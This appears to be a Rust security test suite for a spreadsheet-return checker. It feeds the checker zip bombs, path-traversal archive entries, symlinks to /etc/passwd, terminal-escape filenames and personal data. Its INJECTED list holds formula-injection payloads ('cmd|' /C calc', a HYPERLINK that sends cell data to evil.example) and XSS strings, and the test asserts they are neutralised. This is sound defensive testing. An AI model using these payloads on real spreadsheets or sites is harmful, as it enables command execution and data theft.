//! Files and folders made to take all time, all memory, or what is not theirs: each with its bound.
//!
//! The workbooks are a sound return of the golden campaign with parts put in the place of its own;
//! `sheet2.xml` is the form "Mô hình, điển hình".

#![expect(
    clippy::print_stdout,
    clippy::unwrap_used,
    reason = "a test fails by panicking, and tells its figures"
)]

#[path = "support/bounded.rs"]
mod bounded;
#[path = "support/folders.rs"]
mod folders;

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs::{self, File};
use std::io::{self, Cursor, Read as _, Write as _};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use bounded::{Ended, watch};
use folders::copy;
use serde_json::Value;
use zip::write::SimpleFileOptions;
use zip::{ZipArchive, ZipWriter};

/// The part with the table.
const TABLE: &str = "xl/worksheets/sheet2.xml";
const STRINGS: &str = "xl/sharedStrings.xml";
/// The labels of its columns that have one.
const LABELS: [&str; 6] = [
    "Tên tập thể, cá nhân, mô hình",
    "Phân loại",
    "Đối tượng",
    "Đơn vị công tác",
    "Tóm tắt thành tích",
    "Ngày giới thiệu",
];
/// What one file may take where only data is written, on a slow machine.
const SECONDS: Duration = Duration::from_secs(20);
/// The same with all reports.
const ALL: Duration = Duration::from_secs(90);
/// What a run may hold at once over one hostile file, in MiB.
const MEMORY: u64 = 256;

fn golden() -> &'static Path {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/golden"))
}

fn sound() -> Vec<u8> {
    fs::read(golden().join("returns/PGD-01_cuoi-nam.xlsx")).unwrap()
}

/// A part of the sound return.
fn part(name: &str) -> String {
    let mut zip = ZipArchive::new(Cursor::new(sound())).unwrap();
    let mut text = String::new();
    let mut part = zip.by_name(name).unwrap();
    part.read_to_string(&mut text).unwrap();
    text
}

/// The sound return with some parts put in the place of its own, or beside them.
fn with_parts(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    write_parts(&mut zip, parts);
    zip.finish().unwrap().into_inner()
}

fn write_parts<W: io::Write + io::Seek>(zip: &mut ZipWriter<W>, parts: &[(&str, &[u8])]) {
    let mut from = ZipArchive::new(Cursor::new(sound())).unwrap();
    let options = SimpleFileOptions::default().compression_level(Some(1));
    for at in 0..from.len() {
        let mut part = from.by_index(at).unwrap();
        let name = part.name().unwrap().to_string();
        if parts.iter().all(|(other, _)| *other != name) {
            zip.start_file(&name, options).unwrap();
            io::copy(&mut part, zip).unwrap();
        }
    }
    for (name, bytes) in parts {
        zip.start_file(*name, options).unwrap();
        zip.write_all(bytes).unwrap();
    }
}

/// The sound return whose table holds these rows, and these shared strings.
fn with_rows(strings: &[&str], rows: &str) -> Vec<u8> {
    let (strings, sheet) = (shared(strings), sheet(rows));
    with_parts(&[(STRINGS, strings.as_bytes()), (TABLE, sheet.as_bytes())])
}

fn shared(strings: &[&str]) -> String {
    let texts = strings.iter().fold(String::new(), |mut texts, text| {
        write!(texts, "<si><t>{text}</t></si>").unwrap();
        texts
    });
    format!(
        "<sst xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">{texts}</sst>"
    )
}

fn sheet(rows: &str) -> String {
    let table = part(TABLE);
    let (head, _) = table.split_once("<sheetData>").unwrap();
    let (_, foot) = table.split_once("</sheetData>").unwrap();
    format!("{head}<sheetData>{rows}</sheetData>{foot}")
}

/// A row of these shared strings.
fn row(strings: impl IntoIterator<Item = usize>) -> String {
    let cells = strings.into_iter().fold(String::new(), |mut cells, at| {
        write!(cells, r#"<c t="s"><v>{at}</v></c>"#).unwrap();
        cells
    });
    format!("<row>{cells}</row>")
}

/// A folder with the golden campaign and an empty folder of returns.
fn workplace() -> tempfile::TempDir {
    let place = tempfile::tempdir().unwrap();
    copy(&golden().join("schemas"), &place.path().join("schemas"));
    fs::create_dir(place.path().join("returns")).unwrap();
    place
}

const RUN: [&str; 7] = [
    "run",
    "--campaign",
    "schemas",
    "--returns",
    "returns",
    "--jobs",
    "2",
];
const DATA_ONLY: [&str; 2] = ["--only", "data"];

fn run(place: &Path, args: &[&str]) -> Ended {
    let mut run = Command::new(env!("CARGO_BIN_EXE_thidua"));
    let patience = Duration::from_mins(5);
    let ended = watch(run.args(RUN).args(args).current_dir(place), patience);
    assert!(matches!(ended.code, Some(0 | 1)), "{}", ended.complained);
    assert_eq!(ended.complained, "");
    ended
}

/// The codes of the findings of each file, each once.
fn codes(place: &Path, file: &str) -> BTreeSet<String> {
    let findings = fs::read_to_string(place.join("reports/data/findings.jsonl")).unwrap();
    let lines = findings.lines();
    let lines = lines.map(|line| serde_json::from_str::<Value>(line).unwrap());
    lines
        .filter(|line| line["file"] == file)
        .map(|line| line["code"].as_str().unwrap().to_owned())
        .collect()
}

/// The state of each file, by name.
fn states(place: &Path) -> Vec<(String, String)> {
    let summary = fs::read(place.join("reports/data/summary.json")).unwrap();
    let summary: Value = serde_json::from_slice(&summary).unwrap();
    let all = summary["submissions"].as_array().unwrap().iter();
    let text = |one: &Value, key: &str| one[key].as_str().unwrap().to_owned();
    all.map(|one| (text(one, "file"), text(one, "state")))
        .collect()
}

/// Runs over one file, within bounds; the codes of its findings.
fn alone(bytes: &[u8], args: &[&str], bounds: (Duration, u64)) -> BTreeSet<String> {
    let place = workplace();
    let name = "PGD-01_cuoi-nam.xlsx";
    fs::write(place.path().join("returns").join(name), bytes).unwrap();
    run(place.path(), args).within(bounds.0, bounds.1);
    codes(place.path(), name)
}

#[test]
fn a_cell_in_the_last_corner_alone_is_too_large() {
    for rows in [
        r#"<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>"#,
        r#"<row r="1"><c r="XFD1"><v>1</v></c></row>"#,
    ] {
        let bytes = with_parts(&[(TABLE, sheet(rows).as_bytes())]);
        let found = alone(&bytes, &DATA_ONLY, (SECONDS, MEMORY));
        assert!(found.contains("too-large"), "{found:?}");
    }
}

#[test]
fn a_file_of_a_terabyte_is_only_listed() {
    let place = workplace();
    let returns = place.path().join("returns");
    // Nothing but holes, and one that begins like an archive.
    let sparse = [
        ("PGD-01_cuoi-nam.xlsx", &b""[..]),
        ("gui.zip", b"PK\x03\x04"),
    ];
    for (name, head) in sparse {
        let mut file = File::create(returns.join(name)).unwrap();
        file.write_all(head).unwrap();
        if file.set_len(1 << 40).is_err() {
            println!("skipped: no file may be as long here");
            return;
        }
    }
    run(place.path(), &DATA_ONLY).within(SECONDS, MEMORY);
    for (name, _) in sparse {
        let found = codes(place.path(), name);
        assert!(found.contains("too-large"), "{name}: {found:?}");
    }
}

#[test]
fn ten_thousand_sheets_are_too_many() {
    let relation = |at: usize, target: &str| {
        format!(
            r#"<Relationship Id="x{at}" Target="worksheets/{target}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet"/>"#
        )
    };
    let sheets = (0..10_000).fold(String::new(), |mut sheets, at| {
        write!(
            sheets,
            r#"<sheet name="S{at}" sheetId="{}" r:id="x{at}"/>"#,
            at + 10
        )
        .unwrap();
        sheets
    });
    let book = part("xl/workbook.xml").replace("</sheets>", &format!("{sheets}</sheets>"));
    let relations = part("xl/_rels/workbook.xml.rels");
    // All of them one part, or each a part of its own.
    for own in [false, true] {
        let target = |at: usize| {
            if own {
                format!("x{at}.xml")
            } else {
                "sheet2.xml".to_owned()
            }
        };
        let more = (0..10_000).fold(String::new(), |more, at| more + &relation(at, &target(at)));
        let relations = relations.replace("</Relationships>", &format!("{more}</Relationships>"));
        let names: Vec<String> = (0..9_000)
            .map(|at| format!("xl/worksheets/x{at}.xml"))
            .collect();
        let mut parts: Vec<(&str, &[u8])> = vec![
            ("xl/workbook.xml", book.as_bytes()),
            ("xl/_rels/workbook.xml.rels", relations.as_bytes()),
        ];
        if own {
            parts.extend(
                names
                    .iter()
                    .map(|name| (name.as_str(), &b"<worksheet/>"[..])),
            );
        }
        let found = alone(&with_parts(&parts), &DATA_ONLY, (SECONDS, MEMORY));
        assert!(found.contains("too-large"), "{found:?}");
    }
}

#[test]
fn rows_that_all_look_like_headings_are_looked_through_in_time() {
    let heading = row(0..5);
    let whole = row(0..6);
    let data = row(6..10);
    let numbers = "<row><c><v>1</v></c><c><v>2</v></c></row>";
    let values = [
        "Nguyễn Thị Hạnh",
        "Điển hình",
        "Cá nhân",
        "Trường TH Suối Đá",
    ];
    let strings = [&LABELS[..], &values].concat();
    for rows in [
        heading.repeat(99_000),
        whole.repeat(82_000),
        format!("{heading}{data}").repeat(49_000),
        format!("{whole}{numbers}").repeat(49_900),
        row((0..1_000).map(|at| at % 6)).repeat(490),
    ] {
        let found = alone(&with_rows(&strings, &rows), &DATA_ONLY, (SECONDS, MEMORY));
        assert!(!found.is_empty());
    }
    // Beyond the limits they are not looked at.
    for rows in [heading.repeat(1_000_000), row((0..16_384).map(|at| at % 6))] {
        let found = alone(&with_rows(&strings, &rows), &DATA_ONLY, (SECONDS, MEMORY));
        assert!(found.contains("too-large"), "{found:?}");
    }
}

#[test]
fn a_million_merged_ranges_are_read_in_time() {
    for last in ["G6", "G1000000"] {
        let merges = format!(r#"<mergeCell ref="A5:{last}"/>"#).repeat(1_000_000);
        let table = part(TABLE).replace(
            "</sheetData>",
            &format!("</sheetData><mergeCells>{merges}</mergeCells>"),
        );
        let bytes = with_parts(&[(TABLE, table.as_bytes())]);
        alone(&bytes, &DATA_ONLY, (SECONDS, MEMORY));
    }
}

#[test]
#[ignore = "a quarter of a minute; `.ci/run` runs it"]
fn a_table_full_of_faults_is_reported_in_time() {
    let strings = [&LABELS[..], &["x"]].concat();
    let faulty = row([6, 6, 6, 6, 6]);
    // The same faults all the way down are one each.
    let rows = format!("{}{}", row(0..6), faulty.repeat(80_000));
    let found = alone(&with_rows(&strings, &rows), &[], (ALL, 4 * MEMORY));
    assert!(!found.contains("too-large"), "{found:?}");
}

#[test]
fn more_faults_than_anybody_will_mend_are_one_finding() {
    let strings = [&LABELS[..], &["x"]].concat();
    let numbers = "<row><c><v>1</v></c><c><v>2</v></c></row>";
    let rows = format!("{}{numbers}", row(0..6)).repeat(49_900);
    let found = alone(&with_rows(&strings, &rows), &[], (SECONDS, MEMORY));
    assert!(found.contains("too-large"), "{found:?}");
}

/// Writes a zip whose last part holds a text of this length between two others, without ever
/// holding it.
fn with_long_text(path: &Path, name: &str, around: [&str; 2], mebibytes: usize) {
    let mut zip = ZipWriter::new(File::create(path).unwrap());
    if name == TABLE {
        write_parts(&mut zip, &[]);
        drop(zip);
        let mut parts = ZipWriter::new(File::create(path).unwrap());
        let mut from = ZipArchive::new(Cursor::new(sound())).unwrap();
        for at in 0..from.len() {
            let part = from.by_index_raw(at).unwrap();
            if part.name().unwrap() != TABLE {
                parts.raw_copy_file(part).unwrap();
            }
        }
        zip = parts;
    }
    let options = SimpleFileOptions::default()
        .compression_level(Some(1))
        .large_file(true);
    zip.start_file(name, options).unwrap();
    zip.write_all(around[0].as_bytes()).unwrap();
    let some = vec![b'x'; 1 << 20];
    for _ in 0..mebibytes {
        zip.write_all(&some).unwrap();
    }
    zip.write_all(around[1].as_bytes()).unwrap();
    zip.finish().unwrap();
}

#[test]
#[ignore = "a quarter of a minute; `.ci/run` runs it"]
fn a_cell_of_a_gigabyte_is_refused_before_it_is_unpacked() {
    let place = workplace();
    let returns = place.path().join("returns");
    let table = sheet(r#"<row><c t="inlineStr"><is><t>|</t></is></c></row>"#);
    let (before, after) = table.split_once('|').unwrap();
    let workbook = returns.join("PGD-01_cuoi-nam.xlsx");
    with_long_text(&workbook, TABLE, [before, after], 1_024);
    let content = "<office:document-content><office:body><office:spreadsheet><table:table \
        table:name=\"A\"><table:table-row><table:table-cell office:value-type=\"string\"><text:p>|\
        </text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>\
        </office:body></office:document-content>";
    let (before, after) = content.split_once('|').unwrap();
    let sheet = returns.join("THPT-01_cuoi-nam.ods");
    with_long_text(&sheet, "content.xml", [before, after], 1_024);
    // The same workbook, which says that the part has 5,000 bytes.
    let mut lying = fs::read(&workbook).unwrap();
    for (signature, into, size) in [(&b"PK\x03\x04"[..], 30, 22), (b"PK\x01\x02", 46, 24)] {
        let name = TABLE.as_bytes();
        let at = (0..lying.len()).rfind(|&at| {
            lying[at..].starts_with(signature)
                && lying[(at + into).min(lying.len())..].starts_with(name)
        });
        let at = at.unwrap() + size;
        lying[at..at + 4].copy_from_slice(&5_000_u32.to_le_bytes());
    }
    fs::write(returns.join("PGD-01_cuoi-nam lần 2.xlsx"), lying).unwrap();
    fs::write(returns.join("PGD-01_cuoi-nam lần 3.xlsx"), sound()).unwrap();
    for path in [&workbook, &sheet] {
        assert!(fs::metadata(path).unwrap().len() < 20 << 20);
    }
    run(place.path(), &[]).within(SECONDS, MEMORY);
    let found = |file: &str| codes(place.path(), file);
    assert!(found("PGD-01_cuoi-nam.xlsx").contains("too-large"));
    assert!(found("THPT-01_cuoi-nam.ods").contains("too-large"));
    let lying = found("PGD-01_cuoi-nam lần 2.xlsx");
    assert!(
        lying.contains("damaged-file") || lying.contains("too-large"),
        "{lying:?}"
    );
    let accepted = (
        "PGD-01_cuoi-nam lần 3.xlsx".to_owned(),
        "accepted".to_owned(),
    );
    assert!(states(place.path()).contains(&accepted));
}

#[test]
#[ignore = "a minute or two; `.ci/run` runs it"]
fn a_folder_of_a_hundred_thousand_files_is_read() {
    let place = workplace();
    let returns = place.path().join("returns");
    for folder in 0..100 {
        let folder = returns.join(format!("dot-{folder}"));
        fs::create_dir(&folder).unwrap();
        for file in 0..1_000 {
            fs::write(folder.join(format!("bao cao {file}.xlsx")), "x").unwrap();
        }
    }
    fs::write(returns.join("PGD-01_cuoi-nam.xlsx"), sound()).unwrap();
    run(place.path(), &DATA_ONLY).within(Duration::from_mins(1), 1_024);
    let states = states(place.path());
    assert_eq!(states.len(), 100_001);
    let of = |state: &str| states.iter().filter(|(_, one)| one == state).count();
    assert_eq!(of("accepted"), 1);
    // A clerk who named the wrong folder gets an answer, and one to read.
    let ended = run(place.path(), &[]);
    ended.within(Duration::from_mins(3), 2_048);
}

#[test]
fn what_an_archive_says_of_places_outside_stays_inside() {
    let place = workplace();
    let names = [
        "../../../ngoai.xlsx",
        "/tmp/thidua-ngoai.xlsx",
        "C:\\Windows\\ngoai.xlsx",
        "..\\..\\ngoai.xlsx",
        "a/../../b/./ngoai.xlsx",
        "CON.xlsx",
        "NUL",
    ];
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (at, name) in names.iter().enumerate() {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        let table = part(TABLE).replace("Hạnh", &format!("Hạnh {at}"));
        zip.write_all(&with_parts(&[(TABLE, table.as_bytes())]))
            .unwrap();
    }
    let bytes = zip.finish().unwrap().into_inner();
    let archive = place.path().join("returns/PGD-01.zip");
    fs::write(&archive, bytes).unwrap();
    let before = below(place.path());
    run(place.path(), &[]).within(SECONDS, MEMORY);
    let states = states(place.path());
    assert_eq!(states.len(), names.len());
    for (file, state) in states {
        assert!(
            file.starts_with("PGD-01.zip!/") && !file.contains(".."),
            "{file}"
        );
        assert!(
            ["accepted", "superseded"].contains(&state.as_str()),
            "{file}: {state}"
        );
    }
    let after = below(place.path());
    let new: Vec<_> = after.difference(&before).collect();
    let reports = place.path().join("reports");
    assert!(new.iter().all(|path| path.starts_with(&reports)), "{new:?}");
    assert!(!Path::new("/tmp/thidua-ngoai.xlsx").exists());
}

/// Every path below a folder.
fn below(folder: &Path) -> BTreeSet<PathBuf> {
    let mut all = BTreeSet::new();
    for entry in fs::read_dir(folder).unwrap() {
        let entry = entry.unwrap();
        if entry.file_type().unwrap().is_dir() {
            all.extend(below(&entry.path()));
        }
        all.insert(entry.path());
    }
    all
}

#[cfg(unix)]
mod unix {
    use std::ffi::OsStr;
    use std::os::unix::ffi::OsStrExt as _;
    use std::os::unix::fs::symlink;

    use super::*;

    #[test]
    fn what_is_no_file_of_the_folder_is_listed_and_never_opened() {
        let place = workplace();
        let returns = place.path().join("returns");
        let outside = place.path().join("ngoai");
        fs::create_dir(&outside).unwrap();
        fs::write(outside.join("PGD-01_cuoi-nam.xlsx"), sound()).unwrap();
        fs::write(outside.join("mat.txt"), "mật").unwrap();
        fs::create_dir(returns.join("thu-muc")).unwrap();
        fs::write(returns.join("thu-muc/PGD-01_cuoi-nam lần 2.xlsx"), sound()).unwrap();
        let link = |to: &str, name: &str| symlink(to, returns.join(name)).unwrap();
        link("../ngoai/PGD-01_cuoi-nam.xlsx", "PGD-01_cuoi-nam.xlsx");
        link("/etc/passwd", "THPT-01_cuoi-nam.xlsx");
        link("../ngoai", "thu-muc-ngoai");
        link("/dev/zero", "khong.xlsx");
        link("/dev/stdin", "doc.xlsx");
        link("thu-muc/PGD-01_cuoi-nam lần 2.xlsx", "trong.xlsx");
        link("thu-muc", "thu-muc-trong");
        link("vong.xlsx", "vong.xlsx");
        link("khong-co.xlsx", "dut.xlsx");
        let pipe = returns.join("ong.xlsx");
        assert!(
            Command::new("mkfifo")
                .arg(&pipe)
                .status()
                .unwrap()
                .success()
        );
        run(place.path(), &[]).within(SECONDS, MEMORY);
        let states = states(place.path());
        let expected = [
            ("PGD-01_cuoi-nam.xlsx", "unreadable"),
            ("THPT-01_cuoi-nam.xlsx", "unreadable"),
            ("doc.xlsx", "unreadable"),
            ("dut.xlsx", "unreadable"),
            ("khong.xlsx", "unreadable"),
            ("ong.xlsx", "unreadable"),
            ("thu-muc-ngoai", "unreadable"),
            ("thu-muc-trong", "unreadable"),
            ("thu-muc/PGD-01_cuoi-nam lần 2.xlsx", "accepted"),
            ("trong.xlsx", "superseded"),
            ("vong.xlsx", "unreadable"),
        ];
        let expected = expected.map(|(file, state)| (file.to_owned(), state.to_owned()));
        assert_eq!(states, expected);
        let findings =
            fs::read_to_string(place.path().join("reports/data/findings.jsonl")).unwrap();
        let of = |file: &str| {
            let lines = findings
                .lines()
                .filter(|line| line.contains(&format!("\"file\":\"{file}\"")));
            lines.collect::<Vec<_>>().join("\n")
        };
        for name in [
            "PGD-01_cuoi-nam.xlsx",
            "THPT-01_cuoi-nam.xlsx",
            "khong.xlsx",
        ] {
            assert!(of(name).contains("liên kết dẫn ra ngoài"), "{}", of(name));
        }
        assert!(
            of("ong.xlsx").contains("mục đặc biệt của hệ thống"),
            "{}",
            of("ong.xlsx")
        );
    }

    /// What must not reach a terminal.
    fn is_ruling(sign: char) -> bool {
        sign.is_control() && sign != '\n' || ('\u{202a}'..='\u{202e}').contains(&sign)
    }

    #[test]
    fn names_that_rule_a_terminal_or_are_no_text_are_shown_as_names() {
        let place = workplace();
        let returns = place.path().join("returns");
        let table = part(TABLE).replace("Điển hình", "\u{9b}31mĐ\u{202e}x");
        let bytes = with_parts(&[(TABLE, table.as_bytes())]);
        let names: [&[u8]; 6] = [
            b"PGD-01_cuoi-nam\x1b[2J.xlsx",
            b"PGD-01_cuoi-nam\nDa nhan du.xlsx",
            b"PGD-01\r.xlsx",
            b"PGD-01\xff\xfe.xlsx",
            "PGD-01\u{202e}xslx.exe".as_bytes(),
            "PGD-01\u{9b}5m.xlsx".as_bytes(),
        ];
        for (at, name) in names.iter().enumerate() {
            let table = part(TABLE).replace("Hạnh", &format!("Hạnh {at}"));
            let own = with_parts(&[(TABLE, table.as_bytes())]);
            let own = if at == 0 { &bytes } else { &own };
            fs::write(returns.join(OsStr::from_bytes(name)), own).unwrap();
        }
        for args in [&[][..], &["--lang", "en"], &["--format", "json"]] {
            let ended = run(place.path(), args);
            ended.within(SECONDS, MEMORY);
            assert!(!ended.said.contains(is_ruling), "{:?}", ended.said);
        }
        let states = states(place.path());
        assert_eq!(states.len(), names.len());
        assert!(states.iter().all(|(file, _)| !file.contains(is_ruling)));
        // What is written can be opened: a workbook, the letters, the page.
        for name in ["bao-cao.docx", "cong-van-don-doc.docx", "tong-hop.xlsx"] {
            let zip = fs::read(place.path().join("reports").join(name)).unwrap();
            let mut zip = ZipArchive::new(Cursor::new(zip)).unwrap();
            for at in 0..zip.len() {
                let mut part = zip.by_index(at).unwrap();
                let xml = part.name().unwrap().ends_with(".xml");
                let mut text = Vec::new();
                part.read_to_end(&mut text).unwrap();
                let text = String::from_utf8_lossy(&text);
                let is_forbidden = |sign: char| sign < ' ' && !"\n\r\t".contains(sign);
                assert!(!xml || !text.contains(is_forbidden), "{name}");
            }
        }
        let check = |args: &[&str]| {
            let mut check = Command::new(env!("CARGO_BIN_EXE_thidua"));
            check.args(["check", "--campaign", "schemas", "returns"]);
            watch(check.args(args).current_dir(place.path()), SECONDS)
        };
        for args in [&[][..], &["--format", "json"]] {
            let ended = check(args);
            assert!(
                ended.said.contains("PGD-01_cuoi-nam\u{fffd}"),
                "{}",
                ended.said
            );
            assert!(!ended.said.contains(is_ruling), "{:?}", ended.said);
        }
    }
}

/// What would be a formula or a link in a spreadsheet or a page, were it not a text.
const INJECTED: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "javascript:alert(document.domain)",
    "http://evil.example/x",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
];

#[test]
fn what_looks_like_a_formula_or_a_link_stays_a_text_in_every_report() {
    let place = workplace();
    let escaped = INJECTED.map(|text| {
        text.replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
    });
    let escaped: Vec<&str> = escaped.iter().map(String::as_str).collect();
    let strings = [&LABELS[..], &["Điển hình", "Cá nhân"], &escaped].concat();
    let rows = (0..INJECTED.len()).fold(row(0..6), |rows, at| {
        let text = 8 + at;
        let day = "<c><v>45250</v></c></row>";
        rows + &row([text, 6, 7, text, text]).replace("</row>", day)
            + &row([text, text, text, text, text, text])
    });
    let returns = place.path().join("returns");
    let name = "PGD-01_cuoi-nam =HYPERLINK(javascript:alert(1)).xlsx";
    fs::write(returns.join(name), with_rows(&strings, &rows)).unwrap();
    run(place.path(), &["--with-names"]).within(SECONDS, MEMORY);
    let reports = place.path().join("reports");
    let (mut workbooks, mut quoted) = (0, 0);
    for path in below(&reports) {
        let ending = path
            .extension()
            .unwrap_or_default()
            .to_string_lossy()
            .into_owned();
        if ending == "html" {
            let page = fs::read_to_string(&path).unwrap();
            assert!(!page.contains("<script>alert") && !page.contains("<img src=x"));
            assert!(!page.contains("href=\"javascript") && !page.contains("href=\"http://evil"));
            continue;
        }
        if !["xlsx", "docx"].contains(&ending.as_str()) {
            continue;
        }
        workbooks += 1;
        let mut zip = ZipArchive::new(File::open(&path).unwrap()).unwrap();
        for at in 0..zip.len() {
            let mut part = zip.by_index(at).unwrap();
            let name = format!("{}: {}", path.display(), part.name().unwrap());
            assert!(!name.contains("externalLink"), "{name}");
            let mut text = Vec::new();
            part.read_to_end(&mut text).unwrap();
            let text = String::from_utf8_lossy(&text);
            quoted += text.matches("calc").count();
            for target in text
                .split("Target=\"")
                .skip(1)
                .filter(|_| name.contains("_rels/"))
            {
                let target = target.split('"').next().unwrap();
                let away = ["javascript:", "http://evil", "=", "cmd", "//"];
                assert!(
                    away.iter().all(|one| !target.starts_with(one)),
                    "{name}: {target}"
                );
                let is_ours = !target.contains(':') || target.starts_with("../");
                assert!(
                    is_ours || target.starts_with("http://schemas"),
                    "{name}: {target}"
                );
            }
            for formula in text.split("<f>").skip(1) {
                let formula = formula.split("</f>").next().unwrap();
                let away = ["cmd|", "evil", "javascript", "calc'!"];
                assert!(
                    away.iter().all(|one| !formula.contains(one)),
                    "{name}: {formula}"
                );
            }
        }
    }
    // The texts are there, as texts.
    assert!(workbooks >= 4 && quoted > 4, "{workbooks} {quoted}");
}

/// Declares all fields of the table personal.
fn make_personal(place: &Path) {
    let form = place.join("schemas/forms/dien-hinh.json");
    let mut schema: Value = serde_json::from_slice(&fs::read(&form).unwrap()).unwrap();
    for field in schema["fields"].as_array_mut().unwrap() {
        let own = &mut field["thidua"];
        if own.is_null() {
            *own = serde_json::json!({});
        }
        own["personal"] = true.into();
    }
    fs::write(&form, serde_json::to_vec_pretty(&schema).unwrap()).unwrap();
}

#[test]
fn what_is_personal_is_neither_said_nor_in_any_json() {
    let place = workplace();
    // Values that nobody else has, faulty in every field; sound rows between keep them apart.
    let secret = [
        "Lò Thị Bí Mật",
        "Lò Văn Kín",
        "0912345678",
        "kin@example.vn",
        "31/02/2024",
    ];
    let plain = ["20/11/2023", "Tổ Toán", "Tổ Văn", "Tổ Sử"];
    let strings = [&LABELS[..], &["Điển hình", "Cá nhân"], &secret, &plain].concat();
    let rows = [
        row(0..6),
        row([8, 6, 7, 9, 10, 12]),
        row([14, 6, 7, 14, 14, 13]),
        row([9, 8, 8, 8, 8, 9]),
        row([15, 6, 7, 14, 14, 13]),
        row([10; 6]),
        row([16, 6, 7, 14, 14, 13]),
        row([11, 6, 11, 11, 11, 11]),
        row([8, 6, 7, 9, 10, 12]),
    ];
    let rows = rows.concat();
    let returns = place.path().join("returns");
    let write = |name: &str, bytes: &[u8]| fs::write(returns.join(name), bytes).unwrap();
    write("PGD-01_cuoi-nam.xlsx", &with_rows(&strings, &rows));
    // Claimed by another, and sent once more with changes.
    let cover = part("xl/worksheets/sheet1.xml").replace("PGD-01", "THPT-01");
    let (shared, table) = (
        shared(&strings),
        sheet(&rows.replacen("<v>8</v>", "<v>9</v>", 1)),
    );
    let again = [(STRINGS, shared.as_bytes()), (TABLE, table.as_bytes())];
    let other = [
        &again[..],
        &[("xl/worksheets/sheet1.xml", cover.as_bytes())],
    ];
    write("PGD-01_cuoi-nam lần 2.xlsx", &with_parts(&again));
    write("THPT-01_cuoi-nam.xlsx", &with_parts(&other.concat()));
    let told = |place: &Path, args: &[&str]| {
        let ended = run(place, args);
        let mut check = Command::new(env!("CARGO_BIN_EXE_thidua"));
        check.args(["check", "--campaign", "schemas", "returns"]);
        let checked = watch(check.args(args).current_dir(place), SECONDS);
        assert!(checked.said.lines().count() > 5, "{}", checked.said);
        let mut told = ended.said + &checked.said + &checked.complained;
        for path in below(&place.join("reports")) {
            let ending = path.extension().unwrap_or_default();
            let kinds = ["json", "jsonl", "html", "svg", "txt"];
            if kinds.iter().any(|one| ending == *one) {
                told += &fs::read_to_string(&path).unwrap();
            }
        }
        told
    };
    // What is not personal is told, so that there is something to hide.
    let open = told(place.path(), &[]);
    assert!(secret.iter().all(|value| open.contains(value)), "{open}");
    make_personal(place.path());
    for lang in ["vi", "en"] {
        for format in ["text", "json"] {
            let told = told(place.path(), &["--lang", lang, "--format", format]);
            for value in secret {
                assert!(!told.contains(value), "{value} in {told}");
            }
        }
    }
}

#[test]
fn nothing_reaches_for_the_network() {
    let is_there = Command::new("strace")
        .args(["-e", "trace=none", "true"])
        .output();
    if !is_there.is_ok_and(|output| output.status.success()) {
        assert!(
            std::env::var_os("CI").is_none(),
            "CI must not skip: no strace"
        );
        println!("skipped: nothing tells the calls of a program here");
        return;
    }
    let place = workplace();
    let returns = place.path().join("returns");
    copy(&golden().join("returns"), &returns);
    // Read by a process of its own.
    let old = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/foreign/returns/THPT-07_odfpy.ods");
    fs::copy(old, returns.join("THPT-01_cuoi-nam.ods")).unwrap();
    let calls = place.path().join("calls.txt");
    let traced = |args: &[&str]| {
        let mut traced = Command::new("strace");
        traced.args([
            "-f",
            "-qq",
            "-e",
            "trace=socket,connect,bind,listen,sendto",
            "-o",
        ]);
        traced
            .arg(&calls)
            .arg(env!("CARGO_BIN_EXE_thidua"))
            .args(args);
        let ended = watch(traced.current_dir(place.path()), ALL);
        assert!(matches!(ended.code, Some(0 | 1)), "{}", ended.complained);
        let calls = fs::read_to_string(&calls).unwrap();
        let calls: Vec<&str> = calls.lines().filter(|line| line.contains('(')).collect();
        // Processes of one machine may talk over a socket pair, which is none of these.
        assert_eq!(calls, Vec::<&str>::new());
    };
    traced(&RUN);
    traced(&["check", "--campaign", "schemas", "returns"]);
    traced(&[
        "template",
        "--campaign",
        "schemas",
        "--collection",
        "cuoi-nam",
    ]);
    traced(&["sample", "mau", "--units", "10"]);
}
